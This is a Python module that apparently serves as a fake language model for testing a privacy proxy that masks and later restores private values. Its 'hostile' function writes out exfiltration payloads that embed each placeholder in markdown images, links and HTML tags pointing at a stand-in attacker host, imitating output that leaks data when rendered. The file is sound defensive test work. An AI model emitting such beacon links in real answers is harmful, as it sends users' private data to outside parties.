"""What a stand-in model says: it repeats what it was told, so that masking and restoring can be seen."""

import hashlib
import itertools
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass

from sallyport.lab.values import Json, dumps, object_at, string_at

# Anything that looks like a masked value: <EMAIL_1f>, [EMAIL-1f], {{EMAIL_1f}}.
PLACEHOLDER = re.compile(r"[<\[{]{1,2}[A-Z][A-Z0-9]*(?:[_:-][A-Za-z0-9]+)+[>\]}]{1,2}")
# What a user writes to have one tool called with arguments of his own: call Read with {"file_path": "notes.txt"}
_ASKED_FOR = re.compile(r"\bcall (?P<tool>[A-Za-z0-9_]+) with (?P<arguments>\{.*\})", re.DOTALL)
_EVIL = "https://collector.evil.example"
_DELTA_LENGTHS = (3, 5, 7, 4, 6)


@dataclass(frozen=True, slots=True)
class Tool:
    name: str
    properties: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class Heard:
    """What a provider understood of a request.

    last: the last user text. tool_result: the tool's answer where that is what came last.
    texts: every string of the body. tools: empty where the caller forbids tool calls.
    """

    model: str
    last: str
    texts: tuple[str, ...]
    tools: tuple[Tool, ...] = ()
    tool_result: str | None = None
    stream: bool = False

    @property
    def id(self) -> str:
        """The same for the same texts, so that recorded answers can be compared."""
        return hashlib.sha256("\0".join((self.model, *self.texts)).encode()).hexdigest()[:16]

    @property
    def tokens(self) -> int:
        return sum(count_tokens(text) for text in self.texts)


@dataclass(frozen=True, slots=True)
class Call:
    tool: str
    arguments: Json

    @property
    def json(self) -> str:
        return dumps(self.arguments)


@dataclass(frozen=True, slots=True)
class Said:
    """One answer: a text or a tool call; reasoning in front of it if the model thinks."""

    text: str = ""
    call: Call | None = None
    reasoning: str = ""

    @property
    def tokens(self) -> int:
        return count_tokens(self.text + self.reasoning + (self.call.json if self.call else ""))


def say(heard: Heard) -> Said:
    """Answer: call the tool the user asks for, else the first offered, unless its result just came; or repeat."""
    reasoning = f"The user wrote: {heard.last}" if "think" in heard.model else ""
    asked = _asked_for(heard)
    if asked is not None and heard.tool_result is None:
        return Said(call=asked, reasoning=reasoning)
    if heard.tools and heard.tool_result is None:
        tool = heard.tools[0]
        return Said(
            call=Call(tool.name, dict.fromkeys(tool.properties or ("text",), heard.last)),
            reasoning=reasoning,
        )
    return Said(text=_text(heard), reasoning=reasoning)


def _asked_for(heard: Heard) -> Call | None:
    """Return the call that the last user text asks for, None for none or for a tool that is not offered."""
    found = _ASKED_FOR.search(heard.last)
    if found is None or found["tool"] not in {tool.name for tool in heard.tools}:
        return None
    try:
        arguments, _ = json.JSONDecoder().raw_decode(found["arguments"])
    except ValueError:
        return None
    return Call(found["tool"], arguments)


def deltas(text: str) -> Iterator[str]:
    """Cut a text into pieces of three to seven characters, always the same way."""
    rest = iter(text)
    for length in itertools.cycle(_DELTA_LENGTHS):
        piece = "".join(itertools.islice(rest, length))
        if not piece:
            return
        yield piece


def count_tokens(text: str) -> int:
    return (len(text) + 3) // 4


def tool(name: str, schema: Json) -> Tool:
    """Read a tool's text parameters from its JSON schema (types in either case)."""
    properties = object_at(schema, "properties")
    names = [
        key for key in properties if string_at(object_at(properties, key), "type").lower() in ("string", "")
    ]
    return Tool(name, tuple(names))


def _text(heard: Heard) -> str:
    if "hostile-restore" in heard.model:
        return hostile(heard.texts)
    if "echo-all" in heard.model:
        return "You wrote:\n" + "\n".join(heard.texts)
    if "say-" in heard.model:
        return heard.model.partition("say-")[2].replace("_", " ")
    if heard.tool_result is not None:
        return f"The tool said: {heard.tool_result}"
    return f"You wrote: {heard.last}"


def hostile(texts: tuple[str, ...]) -> str:
    """Repeat every placeholder where a careless restore would let a renderer carry the value out."""
    seen = dict.fromkeys(match for text in texts for match in PLACEHOLDER.findall(text))
    if not seen:
        return "I saw no placeholders."
    lines = [f"I saw {len(seen)} placeholders."]
    for number, mark in enumerate(seen, 1):
        lines += [
            f"In plain text: {mark}.",
            f"![chart]({_EVIL}/image?q={mark})",
            f"[more]({_EVIL}/link/{mark})",
            f'<img src="{_EVIL}/attribute?q={mark}" alt="{mark}">',
            f"<a href='{_EVIL}/{mark}'>here</a>",
            f"Bare: {_EVIL}/bare?q={mark}",
            f'[{number}]: {_EVIL}/reference?q={mark} "{mark}"',
            f"<{_EVIL}/autolink?q={mark}>",
        ]
    return "\n".join(lines)
